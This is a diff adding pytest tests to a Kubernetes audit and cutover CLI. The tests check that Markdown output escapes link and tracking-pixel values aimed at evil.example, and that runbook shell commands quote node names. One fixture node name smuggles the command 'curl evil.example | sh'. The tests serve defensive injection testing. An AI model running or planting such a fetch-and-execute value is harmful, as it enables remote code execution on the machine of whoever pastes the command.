@@ -362,3 +362,36 @@ def test_no_renderer_crashes_on_a_lone_surrogate(fmt: str) -> None:
     text = render(Kind.AUDIT, fmt, report)
     text.encode("utf-8")  # strict: a lone surrogate cannot be written
     assert_clean(text, fmt, f"-o {fmt}")
+
+
+LINK = "[docs](https://evil.example/x) ![pixel](https://evil.example/p.png)"
+
+
+def test_a_value_makes_no_markdown_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    Path("job.yaml").write_text(gpu_job(_quoted(LINK), namespace=_quoted(LINK)))
+    result = invoke("audit", "job.yaml", "-o", "markdown")
+    assert "](https://evil" not in result.stdout.replace("\\](https://evil", "")
+    assert "\\[docs\\](https://evil.example/x)" in result.stdout
+
+
+def test_runbook_commands_quote_node_names(tmp_path: Path) -> None:
+    """The runbook's commands are pasted into a shell: a node name from an exported file is
+    one quoted word, never a command of its own; Markdown shows names, never links."""
+    nodes = [planted_node(i) for i in range(2)]
+    nodes[0]["metadata"]["name"] = "n1; curl evil.example | sh"
+    nodes[1]["metadata"]["name"] = LINK
+    nodes[1]["metadata"]["labels"]["pool"] = LINK  # a pool: named in headings and text
+    exported = tmp_path / "exported.yaml"
+    exported.write_text(yaml.safe_dump_all(nodes) + "---\n" + gpu_job("j"))
+    result = invoke("cutover", "--from", str(exported), "--pool-label", "pool", "-o", "json")
+    commands = "\n".join(line for wave in json.loads(result.stdout)["waves"]
+                         for line in wave["steps"] + wave["rollback"])
+    assert "cordon 'n1; curl evil.example | sh'" in commands or \
+        "'n1; curl evil.example | sh'" in commands, commands
+    assert "; curl evil.example | sh " not in commands.replace("'n1; curl evil.example | sh'", "")
+    markdown = invoke("cutover", "--from", str(exported), "--pool-label", "pool",
+                      "-o", "markdown").stdout
+    outside_fences = re.sub(r"```sh\n.*?```", "", markdown, flags=re.DOTALL)
+    assert "\\[docs\\](https://evil.example/x)" in outside_fences
+    assert "](https://evil" not in outside_fences.replace("\\](https://evil", "")
